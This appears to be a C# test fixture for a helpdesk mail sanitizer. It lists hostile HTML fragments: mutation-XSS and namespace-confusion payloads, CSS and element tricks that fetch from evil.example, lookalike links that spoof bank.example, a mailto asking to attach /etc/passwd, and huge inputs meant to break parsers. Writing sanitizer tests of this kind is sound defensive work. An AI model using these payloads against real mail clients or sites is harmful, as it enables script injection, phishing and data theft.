namespace HelpdeskMail.Helpdesk.Tests.Hosting;

/// <summary>More of what <see cref="HostileMails"/> holds: markup whose reading changes with what is around it, ways to make a request, and what covers or breaks a page.</summary>
internal static class StrangerMails
{
    private const string Ran = "window.hdmRan=1";

    public static IEnumerable<string> Fragments { get; } = [.. Namespaces(), .. Requests(), .. Pages()];

    /// <summary>Elements that another parser, a switch of namespaces or a second reading would take for something else.</summary>
    private static IEnumerable<string> Namespaces() =>
    [
        $"<math><mtext><style></math><img src=x onerror={Ran}></style></mtext></math>", $"<svg><foreignObject><math><mi><table><svg><style><a title=\"</style><img src=x onerror={Ran}>\">",
        $"<math><annotation-xml encoding=\"application/xhtml+xml\"><svg><desc><style><a id=\"</style><img src=x onerror={Ran}>\">", $"<svg><title><noscript><style><img title=\"</style><img src=x onerror={Ran}>\"></noscript></title></svg>",
        $"<table><svg><foreignObject><table><tr><td><style><!--</style><a id=\"--><img src=x onerror={Ran}>\">", $"<xmp><p title=\"</xmp><img src=x onerror={Ran}>\"></p></xmp>",
        $"<listing>\n<p title=\"</listing><img src=x onerror={Ran}>\">", $"<textarea>&lt;/textarea&gt;<img src=x onerror={Ran}></textarea>", $"<pre>&#10;&lt;/pre&gt;&lt;img src=x onerror={Ran}&gt;</pre>",
        $"<plaintext></plaintext><img src=x onerror={Ran}>", $"<noscript><style></noscript><img src=x onerror={Ran}></style></noscript>", $"<noscript><!--</noscript><img src=x onerror={Ran}>--></noscript>",
        $"<object><param name=movie value=//evil.example/x><embed src=//evil.example/y><img src=x onerror={Ran}></object>",
        $"<video><track src=//evil.example/t onload={Ran}><source src=//evil.example/s><a href=\"javascript:{Ran}\">w</a></video>", $"<canvas><script>{Ran}</script><p onclick={Ran}>x</p></canvas>",
        "<audio controls><object data=//evil.example/o><form action=//evil.example><input name=x type=image src=//evil.example/i></form></object></audio>",
        "<button type=submit form=reply-form command=show-modal commandfor=d popovertarget=d interestfor=d>Send</button><dialog open id=d style=\"position:fixed;inset:0\">over</dialog>",
        $"<dialog open><form method=dialog action=//evil.example><input autofocus onfocus={Ran} value=\"a&quot;><img src=x onerror={Ran}>\"></form></dialog>",
        $"<input value=\"&lt;img src=x onerror={Ran}&gt;\"><select><option selected>&lt;script&gt;{Ran}&lt;/script&gt;</select>", $"<select><option><svg><style><img src=x onerror={Ran}></style></svg></select>",
        $"<math href=\"javascript:{Ran}\"><maction actiontype=statusline#//evil.example xlink:href=\"javascript:{Ran}\">x<mtext>//evil.example</mtext></maction></math>",
    ];

    /// <summary>Attributes, elements and values of CSS that ask a server for something.</summary>
    private static IEnumerable<string> Requests() =>
    [
        $"<math><mglyph src=//evil.example/g></mglyph><ms lquote=\"<img src=x onerror={Ran}>\">s</ms><semantics><annotation-xml encoding=\"text/html\"><iframe srcdoc=\"<script>{Ran}</script>\"></iframe></annotation-xml></semantics></math>",
        "<p style=\"background:-moz-element(#a)\">x</p><p style=\"cursor:image-set(url(//evil.example/c) 1x),auto\">x</p>",
        "<p style=\"background-image:image('//evil.example/i')\">x</p><p style=\"background-image:src('//evil.example/i')\">x</p>",
        "<p style=\"color:red;background-image:\\75\\72\\6c(//evil.example/i)\">x</p><p style=\"back\\ground:url(//evil.example)\">x</p>",
        "<p style=\"width:attr(title type(<url>))\" title=\"//evil.example\">x</p><p style=\"width:if(style(--x:1):url(//evil.example);else:1px)\">x</p>",
        "<p style=\"--x:url(//evil.example/v);--y:var(--x)\">x</p><p style=\"all:unset;display:contents\">x</p>",
        "<style>@property --u{syntax:\"<url>\";inherits:true;initial-value:url(//evil.example/p)}@namespace svg \"//evil.example/ns\";@layer x{p{background:url(//evil.example/l)}}@container (width){p{background:url(//evil.example/c)}}</style><p>x</p>",
        "<style>@\\69mport \"//evil.example/i.css\";@charset \"utf-7\";p:has(a){background:url(//evil.example/h)}@starting-style{p{background:url(//evil.example/s)}}</style><p>x</p>",
        "<style>@view-transition{navigation:auto}@scope (p){:scope{background:url(//evil.example/sc)}}@font-palette-values --x{font-family:y}@font-feature-values z{}</style>",
        "<img src=\"cid:x.svg\"><img src=\"CID:x\"><img src=\"cid:%2e%2e%2fpeople\"><img src=\"cid:javascript:alert(1)\">",
        "<img src=\"data:image/png;base64,AAAA\" srcset=\"//evil.example/1 1x\" sizes=1 usemap=\"#m\" crossorigin ismap attributionsrc=\"//evil.example/a\" fetchpriority=high>",
        "<link rel=expect href=#x blocking=render><link rel=modulepreload href=//evil.example/m><link rel=prerender href=//evil.example><link rel=manifest href=//evil.example><link rel=compression-dictionary href=//evil.example>",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//evil.example\"]}]}</script><meta http-equiv=origin-trial content=x><meta name=referrer content=unsafe-url><meta http-equiv=delegate-ch content=x>",
        $"<template shadowrootmode=open><style>:host{{position:fixed}}</style><slot></slot><script>{Ran}</script></template><div><template shadowrootmode=closed><p>shadow</p></template></div>",
        "<fencedframe src=//evil.example></fencedframe><webview src=//evil.example></webview><permission type=camera></permission><geolocation></geolocation><selectedcontent></selectedcontent><model src=//evil.example></model>",
        "<![if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]><v:rect style=\"behavior:url(#default#VML)\"><v:fill src=\"//evil.example/v\" /></v:rect><v:imagedata src=\"//evil.example/w\" o:href=\"//evil.example/h\"/>",
        $"<p xmlns:e=\"http://www.w3.org/1999/xhtml\"><e:script>{Ran}</e:script><svg:script xmlns:svg=\"http://www.w3.org/2000/svg\">{Ran}</svg:script>",
        "<p style=\"color:red\" style=\"background:url(//evil.example)\" STYLE=\"background:url(//evil.example)\">x</p><p/style=\"background:url(//evil.example)\">x</p>",
        $"<t:set attributeName=\"innerHTML\" to=\"<img src=x onerror={Ran}>\" xmlns:t=\"urn:schemas-microsoft-com:time\"><comment><img src=x onerror={Ran}></comment><ilayer src=//evil.example></ilayer><layer src=//evil.example></layer><bgsound src=//evil.example>",
        "<hr size=99999 width=99999 style=\"height:99999px\"><hr color=\"red;background:url(//evil.example)\" noshade>",
        "<td width=\"100%%\" height=1e9 bgcolor=\"url(//evil.example)\"><th background=\"//evil.example/t\"><col width=99999 span=1000000><colgroup span=99999999>",
        $"<ol start=99999999999999999999><li value=-2147483649>x</ol><ol start=\"1;x\" reversed type=\"javascript:{Ran}\"><li>y</ol>",
    ];

    /// <summary>Sizes, layers, letters and links that pretend to be the page or break it.</summary>
    private static IEnumerable<string> Pages() =>
    [
        "<p style=\"background:paint(x);background-image:element(#x);mask:paint(y)\">x</p>", "<p style=\"display:grid;grid-area:1/1/99999/99999;margin:calc(0px - 900px)\">x</p>",
        "<p style=\"margin:-900px\"><p style=\"margin-left:calc(-1*900px)\">x</p><p style=\"margin-top:calc( (0px) - 50vh )\">x</p>",
        "<p style=\"transform:translate(-900px);translate:-900px;scale:50;rotate:45deg;zoom:50;inset:0;top:-9px\">x</p>", "<p style=\"width:99999vw;height:99999vh;max-width:none;min-height:99999px\">x</p>",
        "<p style=\"height:9999999px\">x</p><p style=\"padding:9999999px\">x</p><p style=\"border:99999px solid red\">x</p><p style=\"line-height:99999\">x</p>",
        "<p style=\"font-size:9999px\">x</p><font size=+99999>x</font><p style=\"letter-spacing:9999px\">xy</p><p style=\"border-spacing:99999px\">x</p><table cellspacing=99999 cellpadding=99999><td>x</table>",
        "<img src=\"data:image/png;base64,AA\" width=99999 height=99999 hspace=99999 vspace=99999 border=99999>", "<p style=\"float:left;width:100%;height:100vh;background-color:#fff\">fake page</p>",
        "<a href=\"https://bank.example/\" style=\"display:block;width:9999px;height:9999px\">x</a>",
        "<a href=\"https://bank.example/%0d%0aSet-Cookie:x\">x</a><a href=\"https://bank&#x2044;.example/\">bank.example</a><a href=\"https://evil.example/#https://bank.example\">bank.example</a>",
        "<a href=\"https://bank.example&#12290;evil.example/\">bank.example</a><a href=\"http://bank.example%2eevil.example\">bank.example</a>",
        "<a href=\"https://evil.example\">bank&#x200B;.&#x2060;example</a><a href=\"https://evil.example\">bank․example</a><a href=\"https://evil.example\">ｂａｎｋ.example</a>",
        "<a href=\"https://evil.example\"><span>https://</span>bank.example/login</a><a href=\"https://evil.example\"><img alt=\"https://bank.example\" src=x></a>",
        "<a href=\"https://evil.example\"><span style=\"font-size:0\">x</span>bank.example</a><a href=\"https://evil.example\"><span style=\"display:none\">hidden</span>bank.example</a>",
        "<a href=\"https://evil.example\"><span hidden>hidden words</span>https://bank.example/</a>",
        "<a href=\"https://evil.example\" hidden>x</a><area href=\"https://evil.example\"><a name=\"x\" id=\"y\" class=\"hdm-target\">(bank.example)</a><span class=\"hdm-signature\">x</span>",
        "<a href=\"mailto:a@b.example?attach=/etc/passwd&bcc=eve@evil.example&body=x\">m</a><a href=\"tel:*%2306%23\">t</a><a href=\"sms:1\">s</a><a href=\"cid:x\">c</a>",
        $"<p title=\"a\nb\" dir=\"auto&quot; onclick={Ran}\" lang=\"&#34;&#62;&#60;img src=x onerror={Ran}&#62;\">x</p>",
        "<a href=\"https://x.example/\" style=\"unicode-bidi:isolate-override;direction:rtl\">x</a><p dir=rtl>&#x202E;&#x2066;gpj.exe</p>", "<table><tr><td colspan=999999999 rowspan=999999999>x</td></tr></table>",
        "<p style=\"visibility:visible!important;pointer-events:all;user-select:none;appearance:button;resize:both;overflow:scroll\">x</p>", $"<details open name=x><summary onclick={Ran}>•••</summary><p>fake fold</p></details>",
        $"<marquee behavior=alternate scrollamount=9999 width=9999 onbounce={Ran}>x</marquee><blink>y</blink><nobr>z</nobr>",
    ];

    /// <summary>More than a person writes.</summary>
    public static IReadOnlyList<string> Masses { get; } =
    [
        $"<style>{new string('p', 4_000_000)}</style><p>x</p>", $"<p style=\"{string.Concat(Enumerable.Repeat("color:red;", 50_000))}\">x</p>", string.Concat(Enumerable.Repeat("<svg>", 20_000)) + "x", string.Concat(Enumerable.Repeat("<math><mi>", 5_000)) + "x",
        string.Concat(Enumerable.Repeat("<!--!>", 50_000)) + "--><p>x", string.Concat(Enumerable.Repeat("<p hidden>", 2_000)) + "x", string.Concat(Enumerable.Repeat("<select><option>x</select>", 5_000)), string.Concat(Enumerable.Repeat("<noscript>", 5_000)) + "x",
    ];
}
